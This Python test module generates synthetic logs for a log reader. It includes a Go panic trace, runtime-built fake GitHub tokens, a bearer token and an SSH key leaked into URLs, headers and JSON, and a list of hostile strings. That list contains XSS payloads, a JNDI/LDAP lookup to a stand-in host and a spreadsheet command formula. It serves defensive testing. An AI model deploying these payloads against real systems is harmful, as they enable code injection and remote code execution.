"""Lines that a good reader of logs must survive: secrets, hostile text, a panic, and what no parser expects."""

from __future__ import annotations

import base64
import json
import string
from collections.abc import Iterator
from dataclasses import dataclass
from random import Random

from tests.world.lines import Line, Pairs, job_pod, service, slog
from tests.world.options import WORKER, Options, seconds
from tests.world.platform import WORKER_PODS, Attempt, Platform

# in the text of a job's pod, which is written by whatever was built
HOSTILE = (
    "<script>alert('x')</script><img src=x onerror=alert(1)>",
    "**bold** [click](javascript:alert(1)) | a | table | `code` <details><summary>x</summary>",
    "thanks @octocat and @codex-k8s/sre, fixes #1, closes codex-k8s/codex-k8s#2",
    "```",
    "~~~~ ````markdown",
    "-->  <!-- aislot:daily 2026-02-26 -->",
    "left \u202etxet desrever\u202c right \u2066isolated\u2069",
    "\x1b[31mred\x1b[0m \x1b]8;;https://example.org\x07link\x1b]8;;\x07 \x07bell",
    "{{ 7 * 7 }} {% include 'x' %} ${jndi:ldap://example.org/a} %s %n",
    "=cmd|' /C calc'!A0",
    "nul \x00 and \ufffe and \x7f",
    "Receiving objects:  50%\rReceiving objects: 100%\u2028, done\x0b.",
)
_PANIC = (
    "panic: runtime error: invalid memory address or nil pointer dereference",
    "[signal SIGSEGV: segmentation violation code=0x1 addr=0x18 pc=0x8f1a2c]",
    "",
    "goroutine 87 [running]:",
    "github.com/codex-k8s/codex-k8s/services/worker/internal/lease.(*Keeper).Renew(0x0, {0xc00011a000, 0x24})",
    "\t/src/services/worker/internal/lease/keeper.go:118 +0x1d",
    "created by github.com/codex-k8s/codex-k8s/services/worker/internal/lease.(*Keeper).Run in goroutine 1",
    "\t/src/services/worker/internal/lease/keeper.go:64 +0x9c",
    "exit status 2",
)


@dataclass(frozen=True)
class Secrets:
    """Secrets of one world. Put together as it runs, so that no file of ours holds what looks like one."""

    github: str
    fine_grained: str
    clone: str
    git_token: str
    bearer: str
    registry: str
    escaped: str
    key: tuple[str, ...]

    @classmethod
    def make(cls, seed: int) -> Secrets:
        """Make a world's secrets; each says in its own text that it is an example."""
        rng = Random(f"{seed}:secrets")

        def chars(n: int) -> str:
            return "EXAMPLE" + "".join(rng.choices(string.ascii_letters + string.digits, k=n - 7))

        return cls(
            github="gh" + "p_" + chars(36),
            fine_grained="github" + "_pat_" + chars(22) + "_" + chars(59),
            clone="gh" + "s_" + chars(36),
            git_token=chars(40),
            bearer=chars(48),
            registry=base64.b64encode(f"puller:{chars(18)}".encode()).decode(),
            escaped="gh" + "o_" + chars(36),
            key=tuple(chars(64) for _ in range(4)),
        )

    def all(self) -> tuple[str, ...]:
        """Return every secret; of the key each of its lines."""
        plain = (self.github, self.fine_grained, self.clone, self.git_token, self.bearer, self.registry, self.escaped)
        return (*plain, *self.key)


def oddities(options: Options, platform: Platform, secrets: Secrets, pods: dict[int, Pairs]) -> list[Line]:
    """Return every odd line; `pods` tells the control-plane's stream by its first instant."""
    made = [*_panic(options), *_service_secrets(options, secrets, pods)]
    if not options.pod_logs:
        return made
    calm = [a for a in platform.attempts if a.outcome == "succeeded" and a.made_at in options.day]
    builds = [a for a in calm if a.kind == "build"]
    checks = [a for a in calm if a.kind == "codegen-check"]
    told = [
        (builds[2:3], (f"INFO[0002] ARG TOKEN={secrets.github}", f"remote: {secrets.fine_grained}")),
        (checks[1:2], _key_block(secrets)),
        (builds[4:5], HOSTILE if options.hostile else ()),
    ]
    return made + [line for chosen, texts in told for a in chosen for line in _printed(a, texts)]


def _printed(attempt: Attempt, texts: tuple[str, ...]) -> Iterator[Line]:
    """Let a job's pod print some lines soon after it began."""
    labels, metadata = job_pod(attempt)
    for i, text in enumerate(texts):
        at = attempt.begun_at + seconds(2) + i * 1_000_000
        yield Line(at, text, labels, metadata, attempt.job_name, attempt.uid)


def _key_block(secrets: Secrets) -> tuple[str, ...]:
    words = "PRIVATE" + " KEY"
    return (f"-----BEGIN OPENSSH {words}-----", *secrets.key, f"-----END OPENSSH {words}-----")


def _panic(options: Options) -> Iterator[Line]:
    """Let a worker die of a nil pointer: every line of the trace is an entry of its own, some at one instant."""
    at, stream = options.at("03:12:40"), service(WORKER, WORKER_PODS[0])
    for i, text in enumerate(_PANIC):
        yield Line(at + i // 3, text, stream, (("node", "node-0"),))


def _service_secrets(options: Options, secrets: Secrets, pods: dict[int, Pairs]) -> Iterator[Line]:
    """Control-plane and worker write secrets too: in URLs, headers, environments, and behind JSON's escapes."""

    def control(at: int, text: str) -> Line:
        return Line(at, text, pods[max(t for t in pods if t <= at)])

    at = options.at("06:20")
    url = f"https://x-access-token:{secrets.clone}@github.com/codex-k8s/codex-k8s.git"
    yield control(at, slog(at, "WARN", "git fetch slow", err=f"fatal: unable to access '{url}': timed out"))
    at = options.at("08:01")
    auth = json.dumps({"auths": {"registry:5000": {"auth": secrets.registry}}})
    yield control(at, slog(at, "WARN", "pull secret is old", err=f"config {auth}"))
    at = options.at("10:40")
    yield control(at, f"env dump: GIT_TOKEN={secrets.git_token} HOME=/root")
    at = options.at("15:30")
    hidden = slog(at, "DEBUG", "token refreshed", note=secrets.escaped).replace("gho_", "g\\u0068o\\u005f")
    yield control(at, hidden)
    at, stream = options.at("16:45"), service(WORKER, WORKER_PODS[1])
    text = slog(at, "DEBUG", "callback", header=f"authorization: Bearer {secrets.bearer}", source="callback")
    yield Line(at, text, stream, (("node", "node-1"),))
